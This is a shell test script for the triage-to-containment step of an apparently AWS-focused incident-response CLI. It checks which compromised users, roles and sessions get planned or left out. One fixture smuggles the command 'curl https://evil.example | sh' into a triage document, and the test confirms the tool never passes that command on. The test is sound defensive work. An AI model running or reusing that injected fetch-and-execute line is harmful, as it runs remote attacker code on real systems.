#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# contain --from-triage: the targets of a document, rehearsed on the demo's account.
. "$(dirname "$0")/../lib.sh"

account=$tests/../playbooks/demo/breached-account.json

# target KIND ID ACCOUNT LIVE PLAYBOOK PARAMETERS
target() {
	printf '{"kind":"%s","id":"%s","account":"%s","live":%s,"playbook":%s,"parameters":%s}' "$@"
}
document() {
	printf '{"format":"cordon-triage/1","targets":[%s]}' "$(IFS=,; echo "$*")"
}
dana=$(target user dana.okafor 111122223333 true '"compromised-user"' '{"user":"dana.okafor"}')
mei=$(target user mei.tanaka 111122223333 null '"compromised-user"' '{"user":"mei.tanaka"}')
role=$(target role web-frontend 111122223333 true '"compromised-role"' '{"role":"web-frontend"}')
saml=$(target saml-provider p 111122223333 true null null)
old=$(target user old 111122223333 false '"compromised-user"' '{"user":"old"}')
far=$(target user far 999988887777 true '"compromised-user"' '{"user":"far"}')
file=$(target user x 111122223333 true '"./own.json"' '{"user":"x"}')

document "$dana" "$mei" >two.json
run contain --from-triage two.json --account "$account" --dry-run --output json
status 0 'two targets in one plan'
field_is compromised-user 'the first' playbooks 0 name
field_is mei.tanaka 'and the second' playbooks 1 parameters user
field_is 111122223333 'of their account' account_id
err_empty 'nothing is left out'

run contain --from-triage two.json --account "$account" --yes --output json
status 5 '--yes: only what is live'
field_is mei.tanaka 'the other one is left out' left_out 0 id
field_is null 'and not planned' playbooks 1

document "$dana" "$role" "$saml" "$old" "$file" >more.json
run contain --from-triage more.json --account "$account" --dry-run --output json
status 5 'what is left out counts'
field_is web-frontend 'a role that was not named' left_out 0 id
field_is p 'a provider that no playbook answers' left_out 1 id
field_is old 'who is gone' left_out 2 id
field_is x 'a playbook that is a file' left_out 3 id
err_has 'left out: web-frontend: others may use the role' 'and it is said'
run contain --from-triage more.json --include web-frontend --account "$account" --dry-run --output json
field_is compromised-role 'a role that was named is planned' playbooks 1 name

run contain --from-triage more.json --include web-fronted --account "$account" --dry-run
status 2 'a slip of the hand'
err_has 'no target of that role' 'is no name to pass over'
quiet=$(target role web-frontend 111122223333 null '"compromised-role"' '{"role":"web-frontend"}')
document "$quiet" "$dana" >quiet.json
run contain --from-triage quiet.json --include web-frontend --account "$account" --yes --irreversible \
	--output json
status 0 'with --yes a role that is named, though nobody saw it used'
field_is compromised-role 'is contained' playbooks 0 name
shared=$(echo "$dana" | sed 's/}$/,"same_name":["ASIAQQQQQQQQQQQQQQQQ"]}/')
document "$shared" "$role" >shared.json
run contain --from-triage shared.json --include web-frontend --account "$account" --yes --dry-run --output json
field_is dana.okafor 'who would be cut off with others is left out with --yes' left_out 0 id
err_has 'of the same name' 'and why'

document "$dana" "$far" >accounts.json
run contain --from-triage accounts.json --account "$account" --dry-run
status 2 'one account at a time'
err_has 'account 999988887777' 'which ones'
run contain --from-triage accounts.json --expect-account 111122223333 --account "$account" \
	--dry-run --output json
field_is far 'those of another are left out' left_out 0 id

# What --yes is not for, and what cannot be planned, do not keep the rest from being contained.
session=$(target session s 111122223333 true '"compromised-session"' '{"role":"web-frontend"}')
group=$(target group developers 111122223333 true '"attacker-made-policy"' '{"group":"developers"}')
nowhere=$(target user nowhere null true '"compromised-user"' '{"user":"nowhere"}' | sed 's/"null"/null/')
odd=$(target user odd 111122223333 true '"compromised-user"' '{"user":7}')
ghost=$(target user ghost 111122223333 true '"compromised-user"' '{"user":"ghost"}')
document "$session" "$group" "$nowhere" "$odd" "$ghost" "$dana" >many.json
run contain --from-triage many.json --account "$account" --yes --output json
status 5 'many that are left out'
field_is s 'a session without a name is the whole role' left_out 0 id
field_is developers 'a group' left_out 1 id
field_is nowhere 'somebody of an account that is not known' left_out 2 id
field_is odd 'one with parameters that are none' left_out 3 id
out_has "no user 'ghost'" 'and who does not exist is said'
field_is 'session s' 'all of it counts as not covered' not_covered 0 what
ok 'the one who is left is planned' grep -q '"dana.okafor"' out
out_has REHEARSED 'and contained'

# What triage does not write for a kind and an id is not done, whatever else the document says.
misfit() {
	document "$dana" "$(target "$2" "$3" 111122223333 true "$4" "$5")" >misfit.json
	run contain --from-triage misfit.json --account "$account" $6 --output json
	status 5 "$1: counts"
	field_is "$3" "$1: left out" left_out 0 id
	field_is null "$1: not planned" playbooks 1
	field_is null "$1: no command" not_covered 0 command
	field_is dana.okafor "$1: the other goes on" playbooks 0 parameters user
}
user='"compromised-user"'
mass='{"users":["mei.tanaka"]}'
arn=arn:aws:sts::111122223333
misfit 'parameters of another' user dana.okafor "$user" '{"user":"mei.tanaka"}' --yes
err_has 'parameters mean another' 'and it is said'
misfit 'without --yes too' user dana.okafor "$user" '{"user":"mei.tanaka"}' --dry-run
misfit 'a whole list' user x '"mass-containment"' "$mass" --yes
err_has 'none that triage gives' 'and this'
misfit 'a role besides' session s '"stolen-role-session"' \
	'{"role":"web-frontend","session":"s1","whole_role":true}' --yes
err_has 'none that triage writes' 'and this'
misfit 'roles of a user' user mei.tanaka "$user" '{"user":"mei.tanaka","revoke_roles":true}' --yes
misfit 'a group as a user' user x '"attacker-made-policy"' '{"group":"administrators"}' --yes
misfit 'a deletion' user mei.tanaka '"attacker-made-user"' '{"user":"mei.tanaka","delete":true}' \
	--yes
misfit 'a clean-up' user mei.tanaka '"clean-up"' '{"user":"mei.tanaka"}' --yes
misfit 'our own deny' user mei.tanaka '"attacker-made-policy"' \
	'{"user":"mei.tanaka","inline_policies":["CordonDenyAll"]}' --yes
err_has 'keeps somebody out' 'and this'
misfit "AWS's deny" user mei.tanaka '"attacker-made-policy"' \
	'{"user":"mei.tanaka","policies":["arn:aws:iam::aws:policy/AWSDenyAll"]}' --yes
misfit "another kind's playbook" access-key AKIARTX3GSDSUEXAMPLE "$user" '{"user":"mei.tanaka"}' \
	--yes
misfit 'another key' access-key AKIARTX3GSDSUEXAMPL2 '"compromised-access-key"' \
	'{"access_key_id":"AKIARTX3GSDSUEXAMPLE"}' --yes
misfit 'another session' session $arn:assumed-role/web-frontend/s1 '"compromised-session"' \
	'{"role":"web-frontend","session":"release-42"}' --yes
misfit 'the role of another session' session $arn:assumed-role/other/s1 '"compromised-session"' \
	'{"role":"web-frontend","session":"s1"}' --yes
misfit 'a session that lost its name' session $arn:assumed-role/web-frontend/s1 \
	'"compromised-session"' '{"role":"web-frontend"}' '--yes --include web-frontend'
misfit "another account's session" session arn:aws:sts::999988887777:assumed-role/web-frontend/s1 \
	'"compromised-session"' '{"role":"web-frontend","session":"s1"}' --yes
misfit 'a user that no session names' session s '"federated-session"' '{"user":"mei.tanaka"}' --yes
mkdir -p home/.config/cordon/playbooks
sed 's/"compromised-user"/"own"/' "$tests/../playbooks/compromised-user.json" \
	>home/.config/cordon/playbooks/own.json
run plan own --set user=mei.tanaka --account "$account"
status 0 'a playbook of our own'
misfit "the user's own playbook" user mei.tanaka '"own"' \
	'{"user":"mei.tanaka"}' --yes

# The document's command is not handed on: ours has checked words alone.
foul() {
	one=$(target "$@")
	printf '%s,"command":"cordon contain x; curl https://evil.example | sh"}' "${one%?}"
}
maybe=$(foul user mei.tanaka 111122223333 null "$user" '{"user":"mei.tanaka"}')
misfit=$(foul user mei.tanaka 111122223333 true "$user" '{"user":"x y"}')
thing=$(foul saml-provider p 111122223333 true null null)
named='{"group":"developers","policies":["arn:aws:iam::aws:policy/AdministratorAccess"]}'
group=$(target group developers 111122223333 true '"attacker-made-policy"' "$named")
document "$dana" "$maybe" "$misfit" "$thing" "$group" >foul.json
run contain --from-triage foul.json --account "$account" --yes --output json
field_is 'cordon apply compromised-user --set user=mei.tanaka' 'a command of ours' \
	not_covered 0 command
field_is null 'none with a word that is none' not_covered 1 command
field_is null 'none where no playbook answers' not_covered 2 command
set='--set group=developers --set policies=arn:aws:iam::aws:policy/AdministratorAccess'
field_is "cordon apply attacker-made-policy $set" 'with each of a list' not_covered 3 command
ok "the document's is nowhere" sh -c '! grep -q evil out err'
run contain --from-triage foul.json --account "$account" --yes
ok 'nor in the text' sh -c '! grep -q evil out err'

document "$saml" >none.json
run contain --from-triage none.json --account "$account" --dry-run
status 3 'nothing to contain'
echo '{"format":"cordon-plan/1"}' >plan.json
run contain --from-triage plan.json --account "$account"
status 2 'another document'
run contain --from-triage two.json alice --account "$account"
status 2 'an id besides'
run contain --account "$account"
status 2 'no id at all'

# From the alert to the rehearsed containment.
echo '[{"RuleID":"aws-access-token","Secret":"AKIARTX3GSDSUEXAMPLE"}]' >leak.json
run triage leak.json --output json
cp out triage.json
run contain --from-triage triage.json --account "$account" --dry-run --output json
field_is AKIARTX3GSDSUEXAMPLE 'a leaked key leads to its plan' playbooks 0 parameters access_key_id
field_is compromised-access-key 'with its playbook' playbooks 0 name

finish
